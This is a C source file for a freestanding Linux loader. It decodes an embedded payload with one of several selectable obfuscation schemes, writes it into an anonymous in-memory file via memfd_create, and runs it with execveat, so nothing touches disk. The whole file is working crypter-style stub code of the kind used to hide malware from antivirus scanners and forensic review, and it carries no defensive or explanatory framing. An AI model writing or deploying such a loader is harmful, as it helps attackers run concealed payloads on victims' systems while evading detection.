/* A loader without a C library, in one segment that may be written and run (linked with -N). */
#include <stddef.h>
#include <stdint.h>

#include "payload.h"

static long call(long number, long a, long b, long c, long d, long e) {
  register long r10 __asm__("r10") = d;
  register long r8 __asm__("r8") = e;
  long result;
  __asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8) : "rcx", "r11", "memory");
  return result;
}

__asm__(".globl _start\n_start:\n mov %rsp,%rdi\n and $-16,%rsp\n call begin\n");

__attribute__((used)) void begin(long *stack) {
  char **argv = (char **)(stack + 1), **environment = argv + stack[0] + 1;
  uint8_t *data = (uint8_t *)payload_begin;
  size_t length = (size_t)(payload_end - payload_begin);
  uint8_t mask = MASK;
#if MODE == 4
  uint64_t state = 0x9e3779b97f4a7c15ull * MASK;
#endif
  for (size_t at = 0; at < length; at++) {
#if MODE == 1
    data[at] ^= mask, mask = (uint8_t)(mask * 13 + 7);
#elif MODE == 2
    data[at] -= mask, mask += (uint8_t)at | 1;
#elif MODE == 3
    data[at] = (uint8_t)~(data[at] ^ mask);
#else
    state ^= state << 13, state ^= state >> 7, state ^= state << 17;
    data[at] ^= (uint8_t)(state >> 32);
#endif
  }
  long file = call(319, (long)"", 1, 0, 0, 0);
  for (size_t done = 0; done < length;) {
    long put = call(1, file, (long)(data + done), (long)(length - done), 0, 0);
    if (put <= 0) break;
    done += (size_t)put;
  }
  call(322, file, (long)"", (long)argv, (long)environment, 0x1000);
  call(60, 1, 0, 0, 0, 0);
}
